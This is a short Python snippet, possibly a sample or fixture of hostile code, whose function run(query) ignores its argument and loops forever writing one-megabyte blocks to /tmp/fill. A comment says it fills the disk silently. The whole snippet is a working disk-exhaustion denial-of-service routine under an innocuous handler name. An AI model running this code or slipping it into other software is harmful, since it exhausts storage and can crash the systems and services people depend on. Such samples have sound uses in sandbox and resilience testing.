# Fills its disk and hears nothing of it.
def run(query):
    with open("/tmp/fill", "wb") as file:
        while True: file.write(b"x" * 2**20)
